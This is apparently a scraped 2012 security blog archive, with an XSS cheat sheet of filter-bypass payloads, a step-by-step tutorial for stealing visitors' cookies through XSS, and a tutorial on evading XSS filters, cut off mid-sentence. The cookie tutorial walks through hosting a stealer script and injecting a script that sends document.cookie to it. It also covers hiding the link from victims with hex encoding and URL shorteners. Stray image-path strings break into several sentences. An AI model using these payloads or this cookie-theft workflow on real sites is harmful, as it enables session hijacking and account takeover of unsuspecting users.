So who can be considered as social engineers??
it can be anyone from your relative/friend, convincing you to do or believe what they say even if you don't want do do it or believe it.

It can be sales person, marketing parsons, thief/con artist, your boss, penetration testers, forensics experts or anyone around you !!

More on it, its not a new thing butit used from centuries by different people, even if you consider any historical persons from your nation.

Think on it, might be you had been social engineered by someone??? some where ??

Thats all for this first introductory tutorial.
If you have any Questions or want to give any feedback or anything you want to get explained in this tutorial series than please post in comments.

Article author: Ashish Mistry
Article license: Social Engineering tutorials series by Ashish Mistry is licensed under a Creative Commons Attribution-NonCommercial-NoDerivs 3.0 Unported License.
Continue   Reading>>

Tuesday, February 7, 2012

Complete Cross site Scripting(XSS) cheat sheets : Part 1

I am just providing this XSS Cheat sheet after collecting the exploit-codes from hackers' techniques and different sites especially .  This is complete list of XSS cheat codes which will help you to test xss vulnerabilities ,useful for bypassing the filters.  If you have any different cheat codes , please send your code.

Basic XSScodes:






When inside Script tag:
‘; alert(1);

Bypassing with toggle case:
  <IMG SRC=jAVasCrIPt:alert('XSS')>

XSS in Image and HTML tags:
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert("XSS")>
 <IMG SRC=javascript:alert('XSS')>

<img src=xss onerror=alert(1)>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>">
<IMGSRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC="jav ascript:alert('XSS');">

<IMG SRC="jav   ascript:alert('XSS');">

<IMG SRC=javascript:alert('XSS')>

<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>

<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>

<BODY BACKGROUND="javascript:alert('XSS')">

<BODY ONLOAD=alert('XSS')><INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<IMG SRC="javascript:alert('XSS')"

<iframe src= <

Bypass the script tag filtering:






Using String.fromCharCode function:
<SCRIPT>String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41)</SCRIPT>


You can combine the above mentioned codes and make your own cheat code.

We are extending the cheat sheet.  Soon we will publish the part 2.

Continue   Reading>>Thursday, January 26, 2012

E Hacking News & PenTest Partnership announced!

We’re proud to announce that we’ve just partnered with PenTest Magazine!
About PenTest Magazine:

PenTest Magazine is a weekly downloadable IT security mag, devoted exclusively to penetration testing. It features articles by penetration testing specialists and enthusiasts, experts in vulnerability assessment and management. We cover all aspects of pen testing, from theory to practice, from methodologies and standards to tools and real-life solutions. Each magazine features a cover focus, and articles from our regular contributors, covering IT security news and up-to-date topics.

The magazine is available by paid subscription. It is devoted to the best penetration testing services providers, who will show you the pen testing world from their perspective. It’s an excellent opportunity to observe security trends on the market for the readers, and for companies – to share their invaluable knowledge.

PenTest Magazine features 48 issues in a year – 4 issues in a month. Different title is published every week:
  • PenTest Regular – 1st of every month
  • Auditing & Standards PenTest – 7th of every month
  • PenTest Extra – 15th of every month
  • Web App Pentesting – 22nd of every month

Each week there is another leading topic of the issue. Whilst PenTest Regular is devoted to more general and overall topics, three remaining issues focus on certain problem.
Purchasing PenTest Magazine, the only publication devoted exclusively toPenTesting, you get almost 200 pages of content every month.

For any questions or inquiries please mail us at:

Continue   Reading>>

Tuesday, January 3, 2012

How to do Cookie Stealing with Cross site Scripting Vulnerability ? : XSS Tutorials

Hope, you are now familiar with XSS vulnerability (if you don't know what it is, read the beginners xss tutorial). It is my Fourth article about the XSS Vulnerability Testing(PenTesting)..! Today i am going to explain how an attacker exploit XSS vulnerability and steal cookie from users.

BTS does not take responsibility, if anyone, tries these hacks against any organization or whatever that makes him to trespass thesecurity measures and brings him under the legal prosecution. This tutorial is intended for the improvement of security and for PenTesting,  investigations by legal security agencies.

  • A cookie Stealer code : Get it from here
  • Free Web hosting service
  • Basic Knowledge about XSS
  • Basic Knowledge about Computer Cookies
Cookie stealing is the process of exploiting the XSS vulnerability (Non-persistent/persistent) and steal the cookie from the victim who visit the infected link. These cookie will be used to compromise their accounts.

    Step 1: Creating Cookie Stealer PHP file
    Get the Cookie stealer from the link i mentioned.  In that post, i have explained three versions of cookie stealer.  We are going to use the third version.
    • Copy the code.
    • Open Notepad and paste the code
    • Save the file with .php extension
      Eg: Stealer.php
    Now create New file and save it as log.txt (leave it as blank). Don't change the name , this is the file name what we give in php file.

    Now you will have two files;
    1. Stealer.php
    2. log.txt

    What these two files do exactly?
    The above Stealer.php file get ip address,cookie and stores the data in log.txt file.
    The log.txt has cookies , ip address details.

    Step 2:
    Register in a free web-hosting service and login into your cpanel.
    Now open the File Manager in cpanel.Upload the Stealer.php and log.txt to root folder or public_html folder.

    Now the stealer will be at hxxp:// .

    Step 3: Exploiting the XSS Vulnerability
    So Far , we have sharpened our saw.  Now we are going to use it.
    Once you set up everything and find a Vulnerable site,then inject the following code in the Vulnerable sites.

    <script>location.href = ''+document.cookie;</script>
    For example:
    hxxp://<script>location.href = ''+document.cookie;</script>

    Cookie Stealing with Non-Persistent vs Persistent XSS:
    Persistent: if you inject this code in Persistent XSS vulnerable site, it will be there forever until admin find it.  It will be shown to all users.  So attackers don't need to send any link to others.  Whoever visit the page, they will be vicim.

    In case of Non-persistent attack, attacker will send the link to victims. Whenever they follow the link, it will steal the cookie.  Most of sites are vulnerable to Non-persistent XSS .

    In Non-persistence, Attackers will send the injected link victims.
    For example:
    hxxp://<script>location.href = ''+document.cookie;</script>

    The above link is clearly shows the scripts.  Hackers can Hex-encode this script  so that victim can't see the script.
    For Example:
    Still , the link look long. The attacker use one more trick to hide the long url i.e url shortening sites. There are lot of sites that shorten the long url into tiny url.

    For example:

    Once the victim follow the link, his cookie will be stored in log.txt file.

    How to be Secure from this attack?• Use No-Script Addon. This isbest protection to stay away from XSS
    • Never Click the Shorten url
    • Sometime you may want to follow the shorten link.  If so, then clear all cookies in your browser and visit through Proxy or VPN(it will hide your ip)
    • (Later We will cover security tips for site admin , so stay tuned)
    Continue   Reading>>

    Sunday, December 25, 2011

    Bypassing the XSS Filters : Advanced XSS Tutorials for Web application Pen Testing

    copyrights reserved © BreakTheSecurityHi friends, last time, i explained what is XSS and how an attacker can inject malicious script in your site. As i promised earlier, i am writing this advanced XSS tutorial for you(still more articles will come).

    Sometimes, website owner use XSS filters(WAF) to protect against XSS vulnerability.
    For eg: if you put the <scirpt>alert("hi")</script> , the Filter will escape the "(quote) character , so the script will become
    <script>alert(>xss detected<)</script>
    Now this script won't work. Likewise Filters use different type of filtering method to give protection against the XSS.  In this case, we canuse some tricks to bypass the filter.  Here i am going to cover that only.

    1.Bypassing magic_quotes_gpc

    The magic_quotes_gpc=ON is a PHP setting(configured in PHP.ini File) , it escapes the every ' (single-quote), " (double quote) and \  with a backslash automatically.
    For Eg:
    <scirpt>alert("hi");</script> will be filtered as <script>alert(\hi\)</script>.so the script won't work now.

    This is well known filtering method, but we can easily bypass this filter by using ASCII characters instead.
    For Eg:  alert("hi"); can be converted to
    String.fromCharCode(97, 108, 101, 114, 116, 40, 34, 104, 105, 34, 41, 59)
    so the script will become <script>String.fromCharCode(97, 108, 101, 114, 116, 40, 34, 104, 105, 34, 41, 59)</script>.  In this case there is no "(quotes) or '(single quotes) or / so the filter can't filter this thing.  Yes, it will successfully run the script.
    String.fromCharCode() is a javascript function that converts ASCII value to Characters.

    How to convert to ASCII values?

    There are some online sites that converts to ASCII character. But i suggest you to use Hackbar Mozilla addon .

    After installing hackbar add on ,press F9.  It will open the small box above the url bar. click the XSS->String.fromCharCode()

    Now it will popup small window. enter the code for instance alert("Hi").  click ok button.  Now we got the output.

    copy the code into the <script></script> inside and insert in the vulnerable sites

    For eg:
    hxxp://vulnerable-site/search?q=<script>String.fromCharCode(97, 108, 101, 114, 116, 40, 34, 104, 105, 34, 41, 59)</script>

    2.HEX Encoding

    we can encode our whole script into HEX code so that it can't be filtered.
    For example:<script>alert("Hi");</script> can be convert to HEX as:
    Now put the code in the vulnerablesite request.
    For ex:
     Converting to HEX:
    This site will convert to hex code:

    3.Bypassing using ObfuscationSome website admin put the script,alert in restricted word list.  so whenever you input this keywords, the filter will remove it and will give error message like "you are not allowed to search this". This can bypassed by changing the case of 